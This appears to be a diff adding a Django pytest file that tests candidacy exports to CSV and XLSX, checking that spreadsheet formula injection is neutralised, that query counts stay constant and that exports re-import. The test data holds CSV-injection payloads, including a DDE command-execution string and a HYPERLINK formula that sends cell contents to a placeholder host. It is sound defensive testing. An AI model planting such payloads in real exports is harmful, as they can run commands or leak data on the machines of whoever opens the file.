@@ -1,0 +1,153 @@
+"""Candidacy exports: formula injection neutralised in CSV and XLSX, constant query count."""
+
+import csv
+import io
+from datetime import date, datetime
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from openpyxl import load_workbook
+
+from acquis.candidates import services
+from acquis.candidates.exports import HEADER, export_candidacies, neutralise
+from acquis.candidates.imports import COLUMN_NAMES, import_candidates
+from acquis.candidates.models import Candidacy
+from acquis.organisations.enums import Habilitation, OrganisationKind
+from acquis.organisations.models import Organisation
+from tests import factories
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE_PARTNER = "=cmd|' /C calc'!A0"
+HOSTILE_ADDRESS = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'
+
+
+@pytest.fixture
+def cohort(certifier, ops_version):
+    return services.create_cohort(certifier=certifier, version=ops_version, name="+Promo")
+
+
+@pytest.fixture
+def hostile(certifier, ops_version, cohort):
+    """A candidacy whose text fields look like formulas (all reachable through the UI)."""
+    partner = Organisation.objects.create(
+        kind=OrganisationKind.PARTNER,
+        name=HOSTILE_PARTNER,
+        certifier=certifier,
+        habilitation=Habilitation.BOTH,
+    )
+    person = factories.candidate(
+        certifier,
+        birth_name="Martin",
+        first_name="Camille",
+        birth_date=date(1990, 3, 14),
+        address=HOSTILE_ADDRESS,
+        phone="+33 6 01 02 03 04",
+        city="@SUM(1+1)",
+        postal_code="-2+3",
+    )
+    return factories.candidacy(ops_version, person=person, partner=partner, cohort=cohort,
+                               blocks=["B1", "B2"])  # fmt: skip
+
+
+def column(name: str) -> int:
+    return HEADER.index(name)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33", "'+33"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Lyon", "Lyon"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (3, 3),
+    ],
+)
+def test_neutralise(value, expected):
+    assert neutralise(value) == expected
+
+
+def test_csv_cells_that_look_like_formulas_get_a_quote(hostile):
+    data = export_candidacies(Candidacy.objects.all(), "csv")
+    assert data.startswith(b"\xef\xbb\xbf")
+    text = data.decode("utf-8-sig")
+    assert text.splitlines()[1].startswith('"Martin";')  # every field quoted (OWASP)
+    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert header == list(HEADER) and header[: len(COLUMN_NAMES)] == list(COLUMN_NAMES)
+    assert row[column("adresse")] == "'" + HOSTILE_ADDRESS
+    assert row[column("partenaire")] == "'" + HOSTILE_PARTNER
+    assert row[column("telephone")] == "'+33 6 01 02 03 04"
+    assert row[column("ville")] == "'@SUM(1+1)"
+    assert row[column("code_postal")] == "'-2+3"
+    assert row[column("promotion")] == "'+Promo"
+    assert row[column("nom_naissance")] == "Martin"
+    assert row[column("date_naissance")] == "14/03/1990"
+    assert row[column("blocs")] == "B1,B2"
+    assert row[column("voie")] == "formation"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+def test_xlsx_has_no_formula_and_real_dates(hostile):
+    data = export_candidacies(Candidacy.objects.all(), "xlsx")
+    sheet = load_workbook(io.BytesIO(data)).active
+    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
+    assert [c.value for c in header] == list(HEADER)
+    assert all(cell.data_type != "f" for cell in row)
+    assert row[column("adresse")].value == "'" + HOSTILE_ADDRESS
+    assert row[column("adresse")].data_type == "s"
+    assert row[column("partenaire")].value == "'" + HOSTILE_PARTNER
+    assert row[column("telephone")].value == "'+33 6 01 02 03 04"
+    assert row[column("date_naissance")].value == datetime(1990, 3, 14)  # noqa: DTZ001
+    assert row[column("date_naissance")].number_format == "DD/MM/YYYY"
+    assert row[column("version_referentiel")].value == 1
+
+
+def test_only_the_queryset_given_is_exported(hostile, other_certifier, ops_version):
+    stranger = factories.candidate(other_certifier, birth_name="Ailleurs")
+    factories.candidacy(ops_version, certifier=other_certifier, person=stranger)
+    data = export_candidacies(Candidacy.objects.for_certifier(hostile.candidate.certifier), "csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert [r[0] for r in rows[1:]] == ["Martin"]
+
+
+def test_the_query_count_does_not_grow_with_the_rows(ops_version, cohort):
+    factories.candidacy(ops_version, cohort=cohort, blocks=["B1"])
+    with CaptureQueriesContext(connection) as one:
+        export_candidacies(Candidacy.objects.all(), "xlsx")
+    for _ in range(4):
+        factories.candidacy(ops_version, cohort=cohort, blocks=["B2", "B3"])
+    with CaptureQueriesContext(connection) as five:
+        data = export_candidacies(Candidacy.objects.all(), "xlsx")
+    assert len(five) == len(one) == 2  # candidacies with their relations, then blocks
+    assert load_workbook(io.BytesIO(data)).active.max_row == 6
+
+
+def test_an_export_imports_again_and_the_quotes_are_removed(hostile, cohort, tmp_path):
+    """The export's columns are the import's: re-importing it skips the known rows."""
+    path = tmp_path / "export.xlsx"
+    path.write_bytes(export_candidacies(Candidacy.objects.all(), "xlsx"))
+    report = import_candidates(path, certifier=cohort.certifier, cohort=cohort)
+    assert report.ok, report.errors
+    assert report.skipped_lines == [2]
+    other = services.create_cohort(
+        certifier=cohort.certifier, version=cohort.version, name="Autre promotion"
+    )
+    services.move_candidacy(hostile, "withdrawn", reason="Déménagement")
+    report = import_candidates(path, certifier=cohort.certifier, cohort=other)
+    assert report.ok, report.errors
+    moved = Candidacy.objects.get(cohort=other)
+    assert moved.candidate == hostile.candidate  # reused, not duplicated
+    assert moved.partner.name == HOSTILE_PARTNER  # quote removed: the partner is found
+    assert sorted(b.code for b in moved.blocks.all()) == ["B1", "B2"]
+
+
+def test_an_unknown_format_is_refused():
+    with pytest.raises(ValueError, match="Format d'export inconnu"):
+        export_candidacies(Candidacy.objects.all(), "ods")
